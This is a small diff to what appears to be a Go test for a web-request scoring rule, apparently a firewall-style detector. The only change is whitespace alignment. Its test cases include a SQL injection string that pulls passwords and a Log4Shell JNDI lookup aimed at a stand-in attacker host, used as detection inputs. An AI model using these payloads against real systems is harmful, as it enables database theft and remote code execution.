@@ -23,7 +23,7 @@ func TestTunedWeighsEachValue(t *testing.T) {
 		"weak in many values": {request(t, 0, "", `{"a":"ring the bell -- twice","b":"a < b -- c","c":"Fish & Chips; large -- or small"}`), 4},
 		"deaf in a leaf":      {request(t, 0, "", `{"site":"https://shop.example.net/x?y=1","code":"100%25"}`), 0},
 		"strong":              {request(t, 0, "", `{"a":"x' UNION SELECT password FROM users--"}`), -1},
-		"in a header":   {request(t, 1, "", "", "X-Note", "${jndi:ldap://evil.example/a}"), -1},
+		"in a header":         {request(t, 1, "", "", "X-Note", "${jndi:ldap://evil.example/a}"), -1},
 	} {
 		v := g.rule(t.Context(), c.x)
 		score, _ := v.Detail["score"].(int)
